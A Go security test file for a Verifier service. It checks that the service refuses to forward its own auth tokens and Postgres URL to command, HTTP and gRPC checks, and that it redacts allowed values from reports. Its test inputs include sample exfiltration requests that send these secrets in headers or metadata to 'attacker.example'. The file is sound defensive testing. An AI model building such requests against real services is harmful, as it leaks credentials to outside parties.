package security

// Finding 2: the Verifier gave its callers its secrets. A command check's env_passthrough,
// an http check's header_env and a grpc check's metadata_env naming the server's own variables
// (CONVERGE_AUTH_TOKENS, CONVERGE_POSTGRES_URL) are refused; an allowed variable's value is
// redacted from the report; command checks can be turned off.

import (
	"testing"

	"github.com/stretchr/testify/require"
	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/encoding/protojson"

	verifierv1 "github.com/converge-dev/converge/gen/converge/verifier/v1"
	"github.com/converge-dev/converge/platform/grpcerr"
)

func requireViolationOf(t *testing.T, err error, field, name string) {
	t.Helper()
	require.Equal(t, codes.InvalidArgument, status.Code(err), "%v", err)
	for _, v := range grpcerr.Violations(err) {
		if v.Field == field {
			require.Contains(t, v.Description, name)
			return
		}
	}
	t.Fatalf("no violation of %s in %v", field, err)
}

func TestVerifierRefusesToPassItsSecretsToChecks(t *testing.T) {
	t.Parallel()
	v := startVerifier(t, []string{"APP_TOKEN=app-token-value-1"}, "--allow-env", "APP_TOKEN")

	passthrough := shell("env")
	passthrough.GetCommand().EnvPassthrough = []string{"CONVERGE_AUTH_TOKENS", "CONVERGE_POSTGRES_URL"}
	_, err := v.client.Verify(t.Context(), v.request("passthrough", passthrough))
	requireViolationOf(t, err, "criteria.criteria[0].command.env_passthrough[0]", "CONVERGE_AUTH_TOKENS")
	requireViolationOf(t, err, "criteria.criteria[0].command.env_passthrough[1]", "CONVERGE_POSTGRES_URL")

	header := httpGet("https://attacker.example/collect")
	header.GetHttp().HeaderEnv = map[string]string{"Authorization": "CONVERGE_AUTH_TOKENS"}
	_, err = v.client.Verify(t.Context(), v.request("header", header))
	requireViolationOf(t, err, `criteria.criteria[0].http.header_env["Authorization"]`, "CONVERGE_AUTH_TOKENS")

	md := &verifierv1.Criterion{Check: &verifierv1.Criterion_Grpc{Grpc: &verifierv1.GrpcCheck{Address: "attacker.example:443",
		Call: &verifierv1.GrpcCheck_Health{Health: &verifierv1.GrpcHealthCall{}}, MetadataEnv: map[string]string{"x": "CONVERGE_POSTGRES_URL"}}}}
	_, err = v.client.Verify(t.Context(), v.request("metadata", md))
	requireViolationOf(t, err, `criteria.criteria[0].grpc.metadata_env["x"]`, "CONVERGE_POSTGRES_URL")

	// Without passthrough the command's environment holds none of the server's variables, and an
	// allowed variable's value never reaches the report.
	leak := shell(`env; echo "app=$APP_TOKEN"; exit 1`)
	leak.GetCommand().EnvPassthrough = []string{"APP_TOKEN"}
	res, err := v.client.Verify(t.Context(), v.request("leak", leak))
	require.NoError(t, err)
	js, err := protojson.Marshal(res.GetReport())
	require.NoError(t, err)
	require.NotContains(t, string(js), verifierToken)
	require.NotContains(t, string(js), v.pgURL)
	require.NotContains(t, string(js), "app-token-value-1")
	require.Contains(t, string(js), "app=[redacted APP_TOKEN]")
}

func TestVerifierCommandChecksCanBeTurnedOff(t *testing.T) {
	t.Parallel()
	v := startVerifier(t, nil, "--allow-command-checks=false")
	_, err := v.client.Verify(t.Context(), v.request("off", shell("id")))
	require.Equal(t, codes.FailedPrecondition, status.Code(err), "%v", err)
	require.Contains(t, status.Convert(err).Message(), "--allow-command-checks=false")
}

// --allow-env refuses the server's own settings at start.
func TestVerifierRefusesToAllowItsOwnSettings(t *testing.T) {
	t.Parallel()
	_, err := runVerifierHelp(t, "--allow-env", "CONVERGE_AUTH_TOKENS")
	require.ErrorContains(t, err, "never passed to checks")
}
